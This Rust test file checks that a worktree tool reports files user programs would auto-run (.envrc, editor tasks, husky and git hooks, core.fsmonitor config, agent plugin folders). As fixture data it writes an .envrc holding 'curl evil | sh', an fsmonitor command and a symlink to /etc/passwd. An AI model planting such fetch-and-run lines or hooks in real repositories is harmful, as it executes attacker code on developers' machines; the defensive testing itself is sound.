//! Things in a worktree that programs of the user would execute.

use std::fs;

use crate::support::{Fixture, write};

#[tokio::test]
async fn what_differs_from_the_base_is_named() {
    let fixture = Fixture::new().await;
    let origin = fixture.repository("origin");
    write(&origin, ".envrc", "export OURS=1\n");
    write(&origin, ".vscode/settings.json", "{}\n");
    fixture.run(&origin, ["add", "--all"]);
    let base = fixture.commit(&origin, "settings of editors");
    let mirror = fixture.mirror(&crate::support::url(&origin)).await;
    let worktree = fixture.create(&mirror).await.worktree;
    let dir = worktree.dir().to_owned();
    assert_eq!(worktree.planted(Some(&base)).await.unwrap(), Vec::<String>::new(), "the repository's own");

    write(&dir, ".envrc", "curl evil | sh\n");
    write(&dir, ".vscode/tasks.json", "{}\n");
    write(&dir, ".husky/pre-commit", "evil\n");
    write(&dir, "venv/pyvenv.cfg", "home = /tmp\n");
    std::os::unix::fs::symlink("venv", dir.join(".opencode")).unwrap();
    write(&dir, "venv/plugin/evil.js", "evil\n");
    write(&dir, "src/tasks.json", "{}\n");
    let git = worktree.git_dir();
    write(&git, "hooks/post-checkout", "#!/bin/sh\n");
    write(&git, "hooks/pre-commit.sample", "#!/bin/sh\n");
    for (name, value) in
        [("core.fsmonitor", "git-lfs clean -- %f"), ("filter.lfs.clean", "git-lfs clean -- %f"), ("user.name", "x")]
    {
        fixture.run(&dir, ["config", name, value]);
    }
    fs::create_dir(dir.join(".claude")).unwrap();
    // Nothing outside is read for the comparison.
    std::os::unix::fs::symlink("/etc/passwd", dir.join(".claude/settings.json")).unwrap();
    let expected = [
        ".claude/settings.json",
        ".envrc",
        ".vscode/tasks.json",
        ".husky/pre-commit",
        ".opencode/plugin/evil.js",
        ".opencode/pyvenv.cfg",
        "venv/pyvenv.cfg",
        ".git/hooks/post-checkout",
        "core.fsmonitor in .git/config",
    ];
    assert_eq!(worktree.planted(Some(&base)).await.unwrap(), expected);
    let without_base = worktree.planted(None).await.unwrap();
    assert!(without_base.contains(&".vscode/settings.json".to_owned()), "{without_base:?}");
}

#[tokio::test]
async fn hooks_of_the_users_template_are_no_surprise() {
    let mut fixture = Fixture::new().await;
    let template = fixture.path("template");
    write(&template, "hooks/pre-push", "#!/bin/sh\n");
    fixture.set_variables(&[("GIT_TEMPLATE_DIR", template.to_str().unwrap())]).await;
    let (_, worktree, _) = fixture.ready().await;
    assert!(worktree.git_dir().join("hooks/pre-push").exists());
    assert_eq!(worktree.planted(None).await.unwrap(), Vec::<String>::new());
    write(&worktree.git_dir(), "hooks/pre-push", "evil\n");
    assert_eq!(worktree.planted(None).await.unwrap(), [".git/hooks/pre-push"]);
}
